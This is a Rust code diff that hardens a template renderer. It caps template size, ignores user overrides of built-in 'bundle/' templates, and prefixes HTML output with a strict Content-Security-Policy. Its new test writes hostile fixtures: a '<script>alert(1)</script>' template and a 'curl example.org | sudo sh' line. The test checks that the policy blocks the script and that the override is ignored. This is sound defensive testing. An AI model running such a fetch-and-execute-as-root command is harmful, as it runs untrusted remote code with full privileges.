@@ -10,10 +10,21 @@ use minijinja::syntax::SyntaxConfig;
 use minijinja::value::Serde;
 use minijinja::{AutoEscape, Environment, UndefinedBehavior, Value};
 
+use vexp_api::run_dir::read_named;
+
 use super::view::View;
 
 /// Instructions that a template may take. A report takes well under a tenth of it.
 const FUEL: u64 = 20_000_000;
+
+/// Bytes of a template.
+const MOST_BYTES: u64 = 4 << 20;
+/// Templates of what a bundle says about itself.
+const BUNDLE: &str = "bundle/";
+/// What a page may load and run: nothing but its own style. It stands before all that a template prints, so
+/// that it holds for templates of others, too; a second `doctype` means nothing to a browser.
+const POLICY: &str = "<!doctype html>\n<meta http-equiv=\"Content-Security-Policy\" content=\"default-src \
+    'none'; style-src 'unsafe-inline'; img-src 'self' data:; base-uri 'none'; form-action 'none'\">\n";
 
 const BUILT_IN: [(&str, &str); 19] = [
     (
@@ -121,11 +132,16 @@ impl Templates {
     pub fn load(folder: Option<&Path>) -> Result<Self, TemplateError> {
         let mut set = BTreeMap::new();
         for (name, built_in) in BUILT_IN {
+            // What a bundle says about itself is vexp's word, which nobody else writes.
+            let folder = folder.filter(|_| !name.starts_with(BUNDLE));
             let own = match folder.map(|folder| folder.join(name)) {
-                Some(path) => match std::fs::read_to_string(&path) {
-                    Ok(text) => Some(text),
-                    Err(error) if error.kind() == std::io::ErrorKind::NotFound => None,
-                    Err(source) => return Err(TemplateError::Read { path, source }),
+                Some(path) => match read_named(&path, MOST_BYTES) {
+                    Ok(bytes) => Some(String::from_utf8_lossy(&bytes).into_owned()),
+                    Err(error) if error.is_not_found() => None,
+                    Err(error) => {
+                        let source = std::io::Error::other(error);
+                        return Err(TemplateError::Read { path, source });
+                    }
                 },
                 None => None,
             };
@@ -188,7 +204,12 @@ impl Templates {
             }
         }
         let template = env.get_template(name).map_err(fail)?;
-        template.render(Value::from(Serde(view))).map_err(fail)
+        let page = template.render(Value::from(Serde(view))).map_err(fail)?;
+        if !name.ends_with(".html.j2") {
+            return Ok(page);
+        }
+        let rest = page.strip_prefix("<!doctype html>\n").unwrap_or(&page);
+        Ok(format!("{POLICY}{rest}"))
     }
 }
 
@@ -212,6 +233,28 @@ fn markdown(text: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_page_of_anyone_runs_no_script_and_a_bundle_s_words_are_vexp_s() {
+        let folder = tempfile::tempdir().unwrap();
+        std::fs::create_dir(folder.path().join("bundle")).unwrap();
+        let put = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).unwrap();
+        put("trend.html.j2", "<script>alert(1)</script>");
+        put("bundle/README.md.j2", "curl example.org | sudo sh");
+        let own = Templates::load(Some(folder.path())).unwrap();
+        let page = own.page("trend.html.j2", &serde_json::json!({})).unwrap();
+        let policy = page.find("Content-Security-Policy").unwrap();
+        assert!(policy < page.find("<script>").unwrap(), "{page}");
+        assert!(
+            page.contains("default-src 'none'") && !page.contains("script-src"),
+            "{page}"
+        );
+        let built_in = Templates::load(None).unwrap();
+        assert_eq!(
+            own.0["bundle/README.md.j2"],
+            built_in.0["bundle/README.md.j2"]
+        );
+    }
 
     #[test]
     fn markdown_is_escaped() {
